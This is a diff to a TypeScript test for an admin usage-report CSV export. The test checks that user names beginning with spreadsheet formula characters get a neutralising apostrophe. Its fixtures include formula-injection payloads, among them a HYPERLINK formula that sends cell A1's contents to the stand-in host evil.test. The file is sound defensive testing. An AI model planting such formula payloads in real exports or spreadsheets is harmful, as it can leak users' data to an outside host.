@@ -28,13 +28,13 @@ describe('usage CSV export', () => {
     const ledger = env.USAGE_LEDGER.get(env.USAGE_LEDGER.idFromName(ledgerName(t)));
     await ledger.append(users.map((u, i) => record(t, i, u)), 90);
     const range = `from=${new Date(Date.UTC(2026, 4, 1, 9)).toISOString()}&to=${Date.UTC(2026, 4, 1, 12)}`;
-    const res = await admin(`/admin/usage?group_by=user&format=csv&tenant=${t}&${range}`, envWith(cfg));
+    const res = await admin(`/admin/usage?group_by=user&format=csv&tenant=${t}&${range}`, { env: envWith(cfg) });
     expect(res.status).toBe(200);
     const cells = (await res.text()).trimEnd().split('\r\n').slice(1).map((l) => l.replace(/,1,10,5,.*$/, ''));
     expect(cells.sort()).toEqual(
       [`"'=HYPERLINK(""http://evil.test/?x=""&A1,""click"")"`, "'+1+1", "'-2+3", "'@SUM(A1:A2)", "'\tcmd", `"'\rcmd"`, 'plain-user'].sort(),
     );
-    const json = (await (await admin(`/admin/usage?group_by=user&tenant=${t}&${range}`, envWith(cfg))).json()) as { rows: { user: string }[] };
+    const json = (await (await admin(`/admin/usage?group_by=user&tenant=${t}&${range}`, { env: envWith(cfg) })).json()) as { rows: { user: string }[] };
     expect(json.rows.map((r) => r.user).sort()).toEqual([...users].sort());
   });
 });
